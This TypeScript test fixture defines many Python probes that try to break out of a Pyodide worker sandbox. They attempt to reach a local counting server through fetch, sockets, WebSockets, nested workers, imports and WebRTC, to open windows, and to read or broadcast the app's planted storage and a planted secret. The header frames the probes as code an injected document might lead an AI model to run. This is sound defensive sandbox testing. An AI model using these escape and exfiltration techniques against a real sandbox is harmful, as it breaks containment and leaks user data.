/**
 * Hostile Python: what a document could talk a model into. Each probe tries to get out of the sandbox, to the network or
 * to the app, and prints `REACHED` when it got through. Whoever runs them also counts the requests that arrive at
 * `target`; the figure must be zero, because a request that was sent has leaked even if its reply cannot be read.
 */

export interface Probe {
  readonly name: string;
  readonly python: string;
}

export interface Target {
  /** A server that counts, like `http://127.0.0.1:1234`; without a slash at the end. */
  readonly http: string;
  /** The same server for WebSockets. */
  readonly ws: string;
}

/** Names of things the app keeps, which the test has put there before. */
export const PLANTED = { database: 'burrow-probe', channel: 'burrow-probe', key: 'burrow-probe', secret: 'S3CRET' };

/** How long a probe waits for something to happen, in milliseconds. */
const WAIT_MS = 1_000;

/** An expression of JavaScript, awaited in the worker's global scope through a prototype walk. */
function script(expression: string): string {
  const body = `return Promise.race([(async () => ${expression})(), new Promise((r) => setTimeout(r, ${WAIT_MS}, 'nothing'))])`;
  return [
    'from pyodide.ffi import run_sync, to_js',
    'try:',
    '    make = to_js([1]).constructor.constructor',
    `    print(run_sync(make(${JSON.stringify(body)})()))`,
    'except BaseException as error:',
    '    print("blocked:", type(error).__name__, str(error)[:200])',
  ].join('\n');
}

function python(...lines: string[]): string {
  return [
    'try:',
    ...lines.map((line) => `    ${line}`),
    'except BaseException as error:',
    '    print("blocked:", type(error).__name__, str(error)[:200])',
  ].join('\n');
}

const worker = (source: string): string => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(source)}])))`;
const heard = (made: string): string =>
  `new Promise((r) => { const w = ${made}; w.onmessage = (e) => r(String(e.data)); w.onerror = () => r('error'); })`;

export function probes({ http, ws }: Target): readonly Probe[] {
  const url = (name: string): string => JSON.stringify(`${http}/probe?${name}`);
  const reach = (name: string): string => `fetch(${url(name)}, { mode: 'no-cors' }).then(() => 'REACHED')`;
  return [
    // ── The network ─────────────────────────────────────────────────────────────────────────────────────────────────
    {
      name: 'js.fetch',
      python: python(
        'import js',
        'from pyodide.ffi import run_sync',
        `run_sync(js.fetch(${url('js-fetch')}))`,
        'print("REACHED")',
      ),
    },
    {
      name: 'pyfetch',
      python: python('from pyodide.http import pyfetch', `r = await pyfetch(${url('pyfetch')})`, 'print("REACHED")'),
    },
    {
      name: 'open_url',
      python: python('from pyodide.http import open_url', `open_url(${url('open-url')})`, 'print("REACHED")'),
    },
    {
      name: 'urllib',
      python: python(
        'import urllib.request',
        `urllib.request.urlopen(${url('urllib')}, timeout=1)`,
        'print("REACHED")',
      ),
    },
    {
      name: 'socket',
      python: python(
        'import socket',
        `s = socket.create_connection((${JSON.stringify(new URL(http).hostname)}, ${new URL(http).port || '80'}), 1)`,
        's.sendall(b"GET /probe?socket HTTP/1.0\\r\\n\\r\\n")',
        'print("REACHED", s.recv(10))',
      ),
    },
    {
      name: 'micropip',
      python: python('import pyodide_js', `await pyodide_js.loadPackage(${url('package.whl')})`, 'print("loaded")'),
    },
    { name: 'fetch through a prototype walk', python: script(reach('walk')) },
    {
      name: 'fetch of a fresh prototype',
      python: script(
        `Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, ${url('proto')}).then(() => 'REACHED')`,
      ),
    },
    {
      name: 'keepalive fetch',
      python: script(
        `fetch(${url('keepalive')}, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(() => 'REACHED')`,
      ),
    },
    {
      name: 'XMLHttpRequest',
      python: script(
        `(() => { const x = new XMLHttpRequest(); x.open('GET', ${url('xhr')}, false); x.send(); return 'REACHED ' + x.status; })()`,
      ),
    },
    {
      name: 'WebSocket',
      python: script(
        `new Promise((r) => { const w = new WebSocket(${JSON.stringify(`${ws}/probe?ws`)}); w.onopen = () => r('REACHED'); w.onerror = () => r('error'); })`,
      ),
    },
    {
      name: 'WebSocketStream',
      python: script(`new WebSocketStream(${JSON.stringify(`${ws}/probe?wss`)}).opened.then(() => 'REACHED')`),
    },
    {
      name: 'WebTransport',
      python: script(
        `new WebTransport(${JSON.stringify(`${http.replace('http:', 'https:')}/probe?wt`)}).ready.then(() => 'REACHED')`,
      ),
    },
    {
      name: 'EventSource',
      python: script(
        `new Promise((r) => { const s = new EventSource(${url('sse')}); s.onopen = () => r('REACHED'); s.onerror = () => r('error'); })`,
      ),
    },
    { name: 'sendBeacon', python: script(`navigator.sendBeacon(${url('beacon')}, 'x') ? 'queued' : 'refused'`) },
    { name: 'import() of http', python: script(`import(${url('import')}).then(() => 'REACHED')`) },
    {
      name: 'import() inside a blob module',
      python: script(
        `import(URL.createObjectURL(new Blob([${JSON.stringify(`import ${url('static-import')}`)}], { type: 'text/javascript' }))).then(() => 'REACHED')`,
      ),
    },
    {
      name: 'importScripts',
      python: script(`(() => { importScripts(${url('import-scripts')}); return 'REACHED'; })()`),
    },
    {
      name: 'a nested worker that fetches',
      python: script(heard(worker(`${reach('nested')}.then((r) => postMessage(r), () => postMessage('blocked'))`))),
    },
    {
      name: 'a nested worker that imports',
      python: script(
        heard(
          worker(
            `try { importScripts(${url('nested-import')}); postMessage('REACHED'); } catch { postMessage('blocked'); }`,
          ),
        ),
      ),
    },
    { name: 'a nested worker from a URL', python: script(heard(`new Worker(${url('worker-url')})`)) },
    {
      name: 'a module worker from data',
      python: script(
        heard(
          `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(`${reach('data-worker')}.then((r) => postMessage(r), () => postMessage('blocked'))`)}), { type: 'module' })`,
        ),
      ),
    },
    { name: 'a shared worker', python: script(`(() => { new SharedWorker(${url('shared')}); return 'made'; })()`) },
    {
      name: 'a service worker',
      python: script(`navigator.serviceWorker.register(${url('service')}).then(() => 'REACHED')`),
    },
    {
      name: 'WebRTC',
      python: script(
        `(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(${url('rtc')}).host }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); return 'REACHED'; })()`,
      ),
    },
    {
      name: 'an image bitmap',
      python: script(
        `fetch(${url('image')}, { mode: 'no-cors' }).then((r) => r.blob()).then(createImageBitmap).then(() => 'REACHED')`,
      ),
    },
    { name: 'a font', python: script(`new FontFace('f', 'url(${http}/probe?font)').load().then(() => 'REACHED')`) },
    { name: 'the cache', python: script(`caches.open('x').then((c) => c.add(${url('cache')})).then(() => 'REACHED')`) },
    {
      name: 'WebAssembly.compileStreaming',
      python: script(`WebAssembly.compileStreaming(${reach('wasm')}).then(() => 'REACHED')`),
    },
    // ── Windows ─────────────────────────────────────────────────────────────────────────────────────────────────────
    {
      name: 'navigating by location',
      python: script(`(() => { self.location.href = ${url('location')}; return 'set'; })()`),
    },
    {
      name: 'parent, top, opener, document',
      python: script(
        `[typeof parent, typeof top, typeof opener, typeof document, typeof window].every((t) => t === 'undefined') ? 'none' : 'REACHED'`,
      ),
    },
    { name: 'opening a window', python: script(`(() => { open(${url('open')}); return 'REACHED'; })()`) },
    { name: 'a window from a client', python: script(`clients.openWindow(${url('client')}).then(() => 'REACHED')`) },
    {
      name: 'messages to the frame',
      python: script(
        `(() => { postMessage({ type: 'RAW', value: 'forged' }); postMessage(${JSON.stringify(PLANTED.secret)}); return 'sent'; })()`,
      ),
    },
    // ── The app's storage ───────────────────────────────────────────────────────────────────────────────────────────
    { name: 'localStorage', python: script(`localStorage.getItem(${JSON.stringify(PLANTED.key)})`) },
    {
      name: 'IndexedDB',
      python: script(
        `new Promise((r) => { const q = indexedDB.open(${JSON.stringify(PLANTED.database)}); q.onsuccess = () => r('REACHED ' + [...q.result.objectStoreNames]); q.onerror = () => r('error'); })`,
      ),
    },
    {
      name: 'the list of databases',
      python: script(`indexedDB.databases().then((d) => 'REACHED ' + JSON.stringify(d))`),
    },
    { name: 'OPFS', python: script(`navigator.storage.getDirectory().then(() => 'REACHED')`) },
    { name: 'the cache storage', python: script(`caches.keys().then((k) => 'REACHED ' + k)`) },
    { name: 'cookies', python: script(`cookieStore.getAll().then((c) => 'REACHED ' + c.length)`) },
    { name: 'locks of the app', python: script(`navigator.locks.query().then((l) => 'REACHED ' + l.held.length)`) },
    {
      name: 'BroadcastChannel',
      python: script(
        `(() => { new BroadcastChannel(${JSON.stringify(PLANTED.channel)}).postMessage(${JSON.stringify(PLANTED.secret)}); return 'sent'; })()`,
      ),
    },
  ];
}
